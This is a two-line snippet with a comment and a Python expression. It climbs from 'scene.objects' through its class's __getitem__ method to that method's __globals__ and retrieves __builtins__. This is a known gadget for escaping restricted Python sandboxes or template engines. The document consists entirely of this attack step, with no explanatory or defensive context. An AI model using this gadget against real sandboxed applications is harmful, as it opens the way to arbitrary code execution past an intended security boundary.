# reach builtins via a property getter
scene.objects.__class__.__getitem__.__globals__["__builtins__"]
